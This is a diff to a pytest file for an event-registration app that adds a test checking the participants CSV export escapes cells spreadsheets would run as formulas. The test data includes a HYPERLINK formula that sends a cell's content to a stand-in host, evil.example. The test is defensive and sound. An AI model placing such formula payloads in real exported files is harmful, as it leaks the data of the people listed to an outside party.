@@ -1,9 +1,18 @@
 """The routes: who may use them, bad input, and the meeting link that only participants see."""
 
+import csv
+import io
+
 import pytest
 
 from event_registrations.models import Registration, Status
-from tests.event_registrations.helpers import MEETING, committed, event_with_registration, register_member
+from tests.event_registrations.helpers import (
+    MEETING,
+    committed,
+    event_with_registration,
+    register_guest,
+    register_member,
+)
 from tests.events.factories import EventPageFactory
 from tests.members.factories import UserFactory
 from tests.regions.factories import RegionPageFactory
@@ -138,3 +147,14 @@ def test_the_team_marks_attendance_and_writes_to_participants(event, member, mod
     message = smtp.to(member.email)[-1]
     assert "<b>Raum 2</b>" in smtp.text_of(message)
     assert message.get_content_type() == "text/plain"
+
+
+def test_the_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(event, moderator):
+    formula = '=HYPERLINK("http://evil.example/?d="&A2;"Klick")'
+    register_guest(event, "formel@example.org", name=formula)
+    register_guest(event, "plus@example.org", name="+49 170 1234")
+    response = logged_in(moderator).get(f"/admin/event-registrations/{event.pk}/participants.csv")
+    assert response["Content-Disposition"].startswith("attachment;")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    names = {row[1]: row[0] for row in rows[1:]}
+    assert names == {"formel@example.org": "'" + formula, "plus@example.org": "'+49 170 1234"}
